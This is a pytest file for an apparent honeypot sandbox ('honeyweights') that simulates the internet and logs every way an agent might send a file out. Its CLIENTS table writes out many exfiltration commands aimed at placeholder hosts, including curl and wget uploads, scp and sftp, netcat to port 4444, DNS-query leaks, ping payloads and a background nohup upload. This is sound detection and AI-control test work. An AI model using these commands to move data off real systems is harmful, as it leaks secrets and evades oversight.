"""The internet as real clients meet it, in one real world: each says what it sent, and the receipts must say the same."""

import asyncio
import hashlib
from dataclasses import dataclass, field
from typing import Any

import pytest
from internet_side import control, journal, opened, quiet, used

from honeyweights.evidence.model import Contact, Receipt
from honeyweights.sandbox.config import WorldConfig

pytestmark = pytest.mark.engine

CONFIGURATION = {
    "seed": "5a" * 32,
    "hosts": [
        {"name": "login.example.net", "ssh": [{"user": "ext", "password": None}], "home": "/data/ext"},
        {"name": "locked.example.net", "ssh": [{"user": "ext", "password": "not yours"}]},
        {"name": "fixed.example.net", "address": "198.51.100.77"},
    ],
    "closed": [
        {"host": "off.example.net", "port": 80, "how": "refused"},
        {"host": "gone.example.net", "port": 80, "how": "dropped"},
    ],
    "capture_limit": 1 << 30,
}
SSH = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BatchMode=yes"
CURL = "curl -sS -m 20 -o /dev/null -w '%{http_code}'"
CLIENTS = {
    "http put": f"{CURL} -T w http://put.example.com/w",
    "http post": f"{CURL} --data-binary @w http://post.example.com/api",
    "http form": f"{CURL} -F f=@w -F note=x http://form.example.com/u",
    "http 1.0": f"{CURL} --http1.0 -T w http://old.example.com/w",
    "http chunked": f"{CURL} -H 'Transfer-Encoding: chunked' --data-binary @w http://chunked.example.com/w",
    "http odd port": f"{CURL} -d a=b http://odd.example.com:8123/f",
    "http literal v4": f"{CURL} -T w http://203.0.113.50:81/w",
    "http literal v6": f"{CURL} -g -T w 'http://[2001:db8::50]:82/w'",
    "http query": f"{CURL} 'http://query.example.com/?d=c2VjcmV0'",
    "http put back": f"{CURL} -T w http://back.example.com/w && curl -sS http://back.example.com/w | cmp - w",
    "https put": f"{CURL} -T w https://secure.example.org/w",
    "https literal": f"{CURL} -T w https://203.0.113.51/w",
    "https on odd port": f"{CURL} -T w https://secure.example.org:8443/w",
    "https untrusted": (
        "python3 -c \"import ssl, socket; s=socket.create_connection(('distrust.example.org', 443))\n"
        "try: ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(s, server_hostname='distrust.example.org')\n"
        "except ssl.SSLCertVerificationError: print('distrusted')\""
    ),
    "wget": "wget -q -O /dev/null --post-file=w http://wget.example.com/w && echo ok",
    "wget https": "wget -q -O /dev/null --post-file=w https://wget.example.org/w && echo ok",
    "python": "python3 -c \"import urllib.request as u; print(u.urlopen('https://py.example.org/w', open('w','rb').read()).status)\"",
    "scp": f"scp {SSH} w ext@login.example.net:in && echo ok",
    "scp old": f"scp -O {SSH} w ext@login.example.net:old && echo ok",
    "scp back": f"scp {SSH} ext@login.example.net:old back && cmp back w && echo ok",
    "sftp": f"printf 'put w sf\\nls\\nget sf back2\\n' > batch; sftp {SSH} -b batch ext@login.example.net && cmp back2 w && echo ok",
    "ssh exec": f"ssh {SSH} ext@login.example.net 'cat > piped && sha256sum piped' < w",
    "ssh look": f"ssh {SSH} ext@login.example.net 'ls; pwd' < /dev/null",
    "ssh locked": f"scp {SSH} w ext@locked.example.net: 2>&1 | tail -1",
    "ssh key stays": "ssh-keyscan -t ed25519 login.example.net login.example.net 2>/dev/null | sort -u | wc -l",
    "tcp": "nc -N -w 9 203.0.113.60 31337 < w && echo ok",
    "tcp v6": "nc -N -w 9 2001:db8::60 4444 < w && echo ok",
    "tcp urgent": (
        "python3 -c \"import socket; s=socket.create_connection(('203.0.113.61', 9)); s.sendall(b'plain'); s.send(b'!', socket.MSG_OOB);"
        " s.sendall(b'more'); s.shutdown(1); s.recv(1); print('ok')\""
    ),
    "tcp banner": "nc -w 2 203.0.113.62 25 < /dev/null",
    "tcp silent": "nc -z -w 2 203.0.113.63 8080 && echo ok",
    "udp": "head -c 30000 w | python3 -c \"import socket,sys; s=socket.socket(2,2); s.connect(('203.0.113.64', 5555));"
    " d=sys.stdin.buffer.read(); [s.send(d[i:i+1000]) for i in range(0,len(d),1000)]; print('ok')\"",
    "udp v6": "python3 -c \"import socket; s=socket.socket(10,2); s.sendto(b'six', ('2001:db8::64', 5556)); print('ok')\"",
    "udp large": "python3 -c \"import socket; s=socket.socket(2,2); s.sendto(b'L'*60000, ('203.0.113.65', 7)); print('ok')\"",
    "udp broadcast": (
        'python3 -c "import socket; s=socket.socket(2,2); s.setsockopt(1,6,1);'
        " [s.sendto(b'all', (a, 5353)) for a in ('255.255.255.255','10.64.7.255','224.0.0.251')]; print('ok')\""
    ),
    "quic": (
        "python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(3); s.connect(('203.0.113.66',443)); s.send(b'Q'*1200)\n"
        "try: s.recv(9)\nexcept ConnectionRefusedError: print('refused')\""
    ),
    "ntp": (
        "python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(3); s.sendto(b'\\x23'+b'\\0'*39+b'12345678', ('203.0.113.67',123));"
        ' d,a=s.recvfrom(99); print(len(d), a[0], d[24:32].decode())"'
    ),
    "dig": "dig +short dig.example.com; dig +short aaaa dig.example.com @198.51.100.53; dig +tcp +short mx example.com",
    "dig txt": "dig +short txt example.com",
    "dig nodata": "dig dig.example.com srv | grep -o 'status: [A-Z]*'; dig nosuch.invalid | grep -o 'status: [A-Z]*'",
    "dig literal v6": "dig +short dig.example.com @2001:db8::53",
    "dig back": "dig +short -x $(dig +short dig.example.com)",
    "nslookup": "nslookup dig.example.com | grep -c '^Address'",
    "getent": "getent ahosts dig.example.com | cut -d' ' -f1 | sort -u | wc -l",
    "dns leak": "for i in 1 2 3; do dig +short chunk$i.leak.example.org > /dev/null; done; echo ok",
    "ping": "ping -q -c 2 -i 0.2 -W 2 -p 5ec0de5ec0de 203.0.113.70 | grep -o '[0-9]* received'",
    "ping v6": "ping -6 -q -c 1 -W 2 2001:db8::70 | grep -o '[0-9]* received'",
    "ping large": "ping -q -c 1 -W 2 -s 40000 203.0.113.71 | grep -o '[0-9]* received'",
    "ping gateway": "ping -q -c 1 -W 2 10.64.7.1 | grep -o '[0-9]* received'",
    "refused": "curl -sS -m 5 -T w http://off.example.net/ 2>/dev/null; echo $?",
    "dropped": "curl -sS -m 2 -T w http://gone.example.net/ 2>/dev/null; echo $?",
    "fast open": (
        'python3 -c "import socket; s=socket.socket(); s.setsockopt(6, 34, 1); s.settimeout(2)\n'
        "try: s.sendto(b'in the syn', 0x20000000, (socket.gethostbyname('off.example.net'), 80))\n"
        'except OSError as e: print(type(e).__name__)"'
    ),
    "own loopback": (
        "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
        f"{CURL} --retry 9 --retry-connrefused http://127.0.0.1:8000/ 2>/dev/null; kill $!"
    ),
    "own closed port": "curl -sS -m 2 http://127.0.0.1:1/ 2>/dev/null; echo $?",
    "listeners": "ss -Hltnu | wc -l",
    "traceroute": "traceroute -n -q1 -w1 -m3 203.0.113.72 | tail -1",
    "source forged": (
        'python3 -c "import socket; s=socket.socket(2,2); s.setsockopt(0,15,1)\n'
        "try: s.bind(('203.0.113.1',53)); s.sendto(b'x',('203.0.113.2',9))\nexcept OSError: print('no')\""
    ),
    "background": "nohup curl -sS -T w http://later.example.com/w >/dev/null 2>&1 & echo ok",
}
"""What the agent runs, side by side in no particular order of importance; each speaks to hosts of its own."""


@dataclass(kw_only=True)
class Seen:
    """What came of it."""

    digest: str = ""
    """Of the file `w`."""
    size: int = 0
    said: dict[str, str] = field(default_factory=dict)
    receipts: list[dict[str, Any]] = field(default_factory=list)
    contacts: list[dict[str, Any]] = field(default_factory=list)
    records: list[dict[str, Any]] = field(default_factory=list)
    spool: dict[str, str] = field(default_factory=dict)
    """File name -> SHA-256 of what is in it."""
    flushed: dict[str, Any] = field(default_factory=dict)
    names: dict[str, dict[str, str]] = field(default_factory=dict)
    rest: dict[str, int] = field(default_factory=dict)
    """Before anything happened: processor time (ms) and resident memory (MiB) of the server."""

    def to(self, host: str) -> list[dict[str, Any]]:
        return [r for r in self.receipts if host in {r["host"], r["address"]} and r["channel"] != "dns" and r["protocol"] != "ssh-login"]


async def _use(config: WorldConfig) -> Seen:
    async with opened(config) as (workstation, internet):
        seen = Seen(rest=await used(internet))
        assert await control(internet, "configure", CONFIGURATION) == {}
        made = await workstation.exec(["bash", "-c", "head -c 3000001 /dev/urandom > w; sha256sum w; stat -c %s w"], user="agent")
        seen.digest, seen.size = made.stdout.split()[0], int(made.stdout.split()[-1])
        for name, script in CLIENTS.items():
            done = await workstation.exec(["bash", "-c", script], user="agent", timeout=40)
            seen.said[name] = (done.stdout + done.stderr).strip()
        await quiet(internet)
        seen.names = await control(internet, "resolve", {"names": ["dig.example.com", "fixed.example.net", "off.example.net"]})
        seen.flushed = await control(internet, "flush")
        seen.records = await journal(internet)
        sums = (await internet.exec(["sh", "-c", "cd /var/lib/internet/spool && ls -A | xargs -r sha256sum"])).stdout
        seen.spool = {line.split()[1]: line.split()[0] for line in sums.splitlines()}
    seen.receipts = [record["body"] | {"id": record["seq"]} for record in seen.records if record["kind"] == "receipt"]
    seen.contacts = [record["body"] | {"id": record["seq"]} for record in seen.records if record["kind"] == "contact"]
    return seen


@pytest.fixture(scope="module", name="seen")
def _seen(built: None, config: WorldConfig) -> Seen:
    """One world for all of this file's tests."""
    return asyncio.run(_use(config))


@pytest.mark.parametrize(
    ("client", "said", "host", "channel", "protocol", "port"),
    [
        ("http put", "201", "put.example.com", "http", "http", 80),
        ("http post", "200", "post.example.com", "http", "http", 80),
        ("http 1.0", "201", "old.example.com", "http", "http", 80),
        ("http chunked", "200", "chunked.example.com", "http", "http", 80),
        ("http literal v4", "201", "203.0.113.50", "http", "http", 81),
        ("http literal v6", "201", "2001:db8::50", "http", "http", 82),
        ("http put back", "201", "back.example.com", "http", "http", 80),
        ("https put", "201", "secure.example.org", "https", "https", 443),
        ("https literal", "201", "203.0.113.51", "https", "https", 443),
        ("wget", "ok", "wget.example.com", "http", "http", 80),
        ("wget https", "ok", "wget.example.org", "https", "https", 443),
        ("python", "200", "py.example.org", "https", "https", 443),
        ("tcp", "ok", "203.0.113.60", "tcp", "raw-tcp", 31337),
        ("tcp v6", "ok", "2001:db8::60", "tcp", "raw-tcp", 4444),
        ("background", "ok", "later.example.com", "http", "http", 80),
    ],
)
def test_what_was_sent_is_what_was_kept(  # noqa: PLR0917  # the table's columns
    seen: Seen, client: str, said: str, host: str, channel: str, protocol: str, port: int
) -> None:
    assert seen.said[client] == said
    receipt = seen.to(host)[0]
    assert (receipt["channel"], receipt["protocol"], receipt["port"]) == (channel, protocol, port)
    assert (receipt["digest"], receipt["sent"], receipt["captured"], receipt["finished"]) == (seen.digest, seen.size, seen.size, True)


def test_https_on_any_port(seen: Seen) -> None:
    assert seen.said["https on odd port"] == "201"
    assert [(r["port"], r["digest"]) for r in seen.to("secure.example.org")] == [(443, seen.digest), (8443, seen.digest)]


def test_what_is_small_and_what_stands_in_the_target(seen: Seen) -> None:
    assert seen.spool[seen.to("odd.example.com")[0]["digest"]] == hashlib.sha256(b"a=b").hexdigest()
    assert seen.spool[seen.to("query.example.com")[0]["digest"]] == hashlib.sha256(b"/?d=c2VjcmV0").hexdigest()
    form = seen.to("form.example.com")[0]
    assert seen.size < form["sent"] < seen.size + 1000


def test_a_client_that_does_not_trust_us_is_seen(seen: Seen) -> None:
    assert seen.said["https untrusted"] == "distrusted"
    assert [(r["protocol"], r["finished"]) for r in seen.to("distrust.example.org")] == [("tls-refused", False)]


def test_ssh_takes_files_in_every_way_and_remembers(seen: Seen) -> None:
    for client in ("scp", "scp old", "scp back"):
        assert seen.said[client] == "ok"
    assert seen.said["sftp"].endswith("ok")
    assert seen.said["ssh exec"] == f"{seen.digest}  piped"
    assert seen.said["ssh look"].split() == ["in", "old", "piped", "sf", "/data/ext"]
    assert seen.said["ssh key stays"] == "1"
    files = [(r["protocol"], r["target"]) for r in seen.to("login.example.net") if r["digest"] == seen.digest]
    assert files == [
        ("sftp", "/data/ext/in"),
        ("scp", "/data/ext/old"),
        ("sftp", "/data/ext/sf"),
        ("ssh-exec", "cat > piped && sha256sum piped"),
    ]


def test_a_locked_host_lets_nobody_in(seen: Seen) -> None:
    assert seen.to("locked.example.net") == []
    assert "lost connection" in seen.said["ssh locked"].lower() or "closed" in seen.said["ssh locked"].lower()


def test_datagrams_are_joined(seen: Seen) -> None:
    assert (seen.to("203.0.113.64")[0]["sent"], seen.to("203.0.113.64")[0]["protocol"]) == (30_000, "raw-udp")
    assert seen.spool[seen.to("2001:db8::64")[0]["digest"]] == hashlib.sha256(b"six").hexdigest()
    assert seen.to("203.0.113.65")[0]["sent"] == 60_000
    for address, protocol in (("255.255.255.255", "raw-udp"), ("10.64.7.255", "raw-udp"), ("224.0.0.251", "multicast")):
        assert [(r["protocol"], r["sent"]) for r in seen.to(address)] == [(protocol, 3)]


def test_urgent_bytes_are_bytes(seen: Seen) -> None:
    assert seen.spool[seen.to("203.0.113.61")[0]["digest"]] == hashlib.sha256(b"plain!more").hexdigest()


def test_quic_is_refused_and_kept(seen: Seen) -> None:
    assert seen.said["quic"] == "refused"
    assert [(r["protocol"], r["sent"]) for r in seen.to("203.0.113.66")] == [("quic", 1200)]


def test_the_time_comes_from_whom_it_was_asked(seen: Seen) -> None:
    assert seen.said["ntp"] == "48 203.0.113.67 12345678"


def test_names_are_answered_by_every_server_alike(seen: Seen) -> None:
    v4, v6 = seen.names["dig.example.com"]["a"], seen.names["dig.example.com"]["aaaa"]
    assert seen.said["dig"].splitlines() == [v4, v6, "10 mail.example.com."]
    assert seen.said["dig txt"] == '"v=spf1 mx -all"'
    assert seen.said["dig nodata"].splitlines() == ["status: NOERROR", "status: NXDOMAIN"]
    assert seen.said["dig literal v6"] == v4
    assert seen.said["dig back"] == "dig.example.com."
    assert seen.said["nslookup"] == "3"
    assert seen.said["getent"] == "2"
    assert seen.names["fixed.example.net"]["a"] == "198.51.100.77"
    told = {(r["body"]["name"], r["body"]["address"]) for r in seen.records if r["kind"] == "name"}
    assert {("dig.example.com", v4), ("dig.example.com", v6), ("fixed.example.net", "198.51.100.77")} <= told


def test_questions_are_kept_for_whoever_owns_the_suffix(seen: Seen) -> None:
    leak = next(r for r in seen.receipts if r["channel"] == "dns" and r["host"] == "example.org")
    assert leak["sent"] > len("chunk1.leak.example.org\n") * 3


def test_pings_are_answered_and_kept(seen: Seen) -> None:
    assert [seen.said[name] for name in ("ping", "ping v6", "ping large", "ping gateway")] == ["2 received"] + ["1 received"] * 3
    assert [(r["channel"], r["sent"]) for r in seen.to("203.0.113.70")] == [("icmp", 112)]
    assert [r["sent"] for r in seen.to("203.0.113.71")] == [40_000]
    assert {c["address"] for c in seen.contacts if c["how"] == "icmp"} == {"203.0.113.70", "203.0.113.71", "2001:db8::70", "10.64.7.1"}


def test_closed_places_are_contacts(seen: Seen) -> None:
    assert seen.said["refused"] == "7"
    assert seen.said["dropped"] == "28"
    found = {(c["host"], c["how"], c["proto"], c["port"]) for c in seen.contacts}
    assert {("off.example.net", "refused", "tcp", 80), ("gone.example.net", "dropped", "tcp", 80)} <= found
    assert ("203.0.113.63", "empty", 8080) in {(c["address"], c["how"], c["port"]) for c in seen.contacts}
    assert seen.said["tcp silent"].endswith("ok")


def test_data_in_a_refused_syn_is_kept(seen: Seen) -> None:
    assert [(r["protocol"], seen.spool[r["digest"]]) for r in seen.to("off.example.net")] == [
        ("syn-data", hashlib.sha256(b"in the syn").hexdigest())
    ]


def test_a_mail_server_greets(seen: Seen) -> None:
    assert seen.said["tcp banner"] == "220 mail ESMTP Postfix (Debian/GNU)"


def test_the_workstations_own_addresses_are_its_own(seen: Seen) -> None:
    assert seen.said["own loopback"] == "200"
    assert seen.said["own closed port"] == "7"
    assert seen.said["listeners"] == "0"
    assert seen.said["source forged"] == "no"
    assert not [r for r in seen.receipts if r["address"].startswith("127.")]


def test_traceroute_ends(seen: Seen) -> None:
    assert "203.0.113.72" in seen.said["traceroute"] or "10.64.7.1" in seen.said["traceroute"]


def test_records_are_the_models_of_evidence_and_captures_lie_under_their_digests(seen: Seen) -> None:
    for body in seen.receipts:
        assert Receipt(**{key: value for key, value in body.items() if key != "stream"}).captured == body["sent"]
        assert {body["digest"], body["head"]} - {None} <= seen.spool.keys()
    for body in seen.contacts:
        Contact(**body)
    assert all(name == digest for name, digest in seen.spool.items())
    assert not [record for record in seen.records if record["kind"] == "lost"]
    assert (seen.flushed["length"], seen.flushed["head"]) == (len(seen.records), seen.records[-1]["hash"])


def test_the_server_rests_lightly(seen: Seen) -> None:
    """Every world starts one."""
    assert seen.rest["ms"] < 350
    assert seen.rest["mib"] < 40
